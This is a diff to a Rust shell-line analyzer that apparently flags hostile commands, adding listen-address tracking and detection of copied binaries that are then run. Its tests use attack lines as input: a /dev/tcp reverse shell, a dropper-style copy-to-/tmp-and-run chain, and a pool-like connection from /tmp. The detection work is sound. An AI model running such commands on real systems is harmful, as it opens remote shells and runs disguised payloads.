@@ -119,7 +119,12 @@ pub struct ShellLine {
     pub urls: Vec<Vec<u8>>,
     /// Dotted IPv4 addresses reached (in URLs, `host:port`, `/dev/tcp/IP/PORT` or bare).
     pub bare_ips: Vec<String>,
+    /// Dotted IPv4 addresses a program is told to listen on or bind to (`--listen 127.0.0.1:8080`,
+    /// `--bind=0.0.0.0`): local addresses of a server, not places the line reaches.
+    pub listen_ips: Vec<String>,
     /// Programs and scripts run (absolute, `~` or relative with `/`; relative ones joined to a prior `cd`).
+    /// A file copied (`cp`, `mv`, `install`) to a path that the line then runs counts as run too:
+    /// `cp /usr/bin/bprofr /tmp/dbused && /tmp/dbused` runs bprofr's bytes.
     pub executed: Vec<Vec<u8>>,
     /// Executed paths under a temporary directory ([`TEMP_DIRS`]).
     pub temp_exec: Vec<Vec<u8>>,
@@ -353,6 +358,8 @@ pub fn analyze(text: &[u8]) -> ShellLine {
     // Kinds of the segments so far in the current pipeline: (downloader, decoder).
     let mut pipeline_has = (false, false);
     let mut saved_downloads: Vec<Vec<u8>> = Vec::new();
+    // `cp SRC... DST` / `mv` / `install`: (source, destination) pairs, to follow a copy that is then run.
+    let mut copies: Vec<(Vec<u8>, Vec<u8>)> = Vec::new();
     let mut pending_shell_subst = false;
     for seg in &segs {
         let words = &seg.words;
@@ -407,8 +414,23 @@ pub fn analyze(text: &[u8]) -> ShellLine {
             }
         }
         if !mention {
+            let mut listen_value = false;
             for w in words.iter().chain(seg.redirects.iter()) {
-                scan_reach(w, &mut out);
+                let option = listen_option(w);
+                let value = match option {
+                    Some(Some(v)) => Some(v),
+                    _ if listen_value => Some(w.as_slice()),
+                    _ => None,
+                };
+                match value {
+                    Some(v) => {
+                        for ip in ipv4s(v) {
+                            push_unique(&mut out.listen_ips, ip);
+                        }
+                    }
+                    None => scan_reach(w, &mut out),
+                }
+                listen_value = option == Some(None);
             }
         }
         if is_downloader {
@@ -480,6 +502,24 @@ pub fn analyze(text: &[u8]) -> ShellLine {
                 push_unique(&mut out.chattr_lock, a.clone());
             }
         }
+        if matches!(cmd.as_slice(), b"cp" | b"mv" | b"install") {
+            let operands: Vec<&Vec<u8>> = args
+                .iter()
+                .filter(|a| !a.starts_with(b"-") && is_pathish(a))
+                .collect();
+            if let Some((dst, srcs)) = operands.split_last() {
+                for src in srcs {
+                    let to = if dst.ends_with(b"/") {
+                        [dst.as_slice(), basename(src)].concat()
+                    } else {
+                        dst.to_vec()
+                    };
+                    if copies.len() < 64 {
+                        copies.push((src.to_vec(), to));
+                    }
+                }
+            }
+        }
         if mention && cmd != b"chmod" {
             continue;
         }
@@ -537,6 +577,9 @@ pub fn analyze(text: &[u8]) -> ShellLine {
             if has_hidden_component(&resolved) && !sourced {
                 push_unique(&mut out.hidden_exec, resolved.clone());
             }
+            for (src, _) in copies.iter().filter(|(_, dst)| *dst == resolved) {
+                push_unique(&mut out.executed, src.clone());
+            }
             push_unique(&mut out.executed, resolved);
         }
     }
@@ -544,6 +587,20 @@ pub fn analyze(text: &[u8]) -> ShellLine {
         out.mention_only = false;
     }
     out
+}
+
+/// For an option naming the address a program listens on or binds to (`--listen`, `--bind`,
+/// `--listen-address`, `-bind`; any option whose name holds `listen` or `bind`): `Some(Some(value))` for
+/// the `--opt=value` form, `Some(None)` when the value is the next word; `None` for other words.
+fn listen_option(w: &[u8]) -> Option<Option<&[u8]>> {
+    let body = w.strip_prefix(b"-")?;
+    let body = body.strip_prefix(b"-").unwrap_or(body);
+    let (name, value) = match body.iter().position(|b| *b == b'=') {
+        Some(eq) => (body.get(..eq)?, Some(body.get(eq + 1..)?)),
+        None => (body, None),
+    };
+    let name = name.to_ascii_lowercase();
+    (contains(&name, b"listen") || contains(&name, b"bind")).then_some(value)
 }
 
 /// Absolute and `~` paths inside a word (`>/tmp/x`, `--config=/root/.x/c.json`).
@@ -778,6 +835,35 @@ mod tests {
         assert!(ipv4s(b"0.0.0.0").is_empty());
         let s = analyze(b"bash -i >& /dev/tcp/127.66.0.1/4444 0>&1");
         assert!(s.dev_tcp);
+    }
+
+    #[test]
+    fn listen_addresses_are_not_reached() {
+        let s = analyze(b"/opt/api/bin/api-server --listen 127.0.0.1:8080");
+        assert!(s.bare_ips.is_empty(), "{s:?}");
+        assert_eq!(s.listen_ips, vec!["127.0.0.1"]);
+        let s = analyze(b"python3 -m http.server --bind=10.0.0.5 8000");
+        assert!(
+            s.bare_ips.is_empty() && s.listen_ips == vec!["10.0.0.5"],
+            "{s:?}"
+        );
+        let s = analyze(b"/tmp/x --listen 0.0.0.0:9 -o 127.66.7.1:3333");
+        assert_eq!(s.bare_ips, vec!["127.66.7.1"]);
+        // A flag without a value does not swallow the next word's address.
+        let s = analyze(b"socat --listen=  10.1.1.1:4444");
+        assert_eq!(s.bare_ips, vec!["10.1.1.1"], "{s:?}");
+    }
+
+    #[test]
+    fn a_copy_that_is_run_runs_its_source() {
+        let s = analyze(b"cp -f -r -- /usr/bin/bprofr /tmp/dbused 2>/dev/null && /tmp/dbused -c >/dev/null 2>&1 && rm -rf -- /tmp/dbused");
+        assert!(s.executed.contains(&b"/usr/bin/bprofr".to_vec()), "{s:?}");
+        assert!(s.executed.contains(&b"/tmp/dbused".to_vec()));
+        let s = analyze(b"cp /usr/bin/x /tmp/ && /tmp/x");
+        assert!(s.executed.contains(&b"/usr/bin/x".to_vec()), "{s:?}");
+        // A copy that is not run is only a mention.
+        let s = analyze(b"cp /usr/bin/bprofr /tmp/dbused");
+        assert!(s.executed.is_empty(), "{s:?}");
     }
 
     #[test]
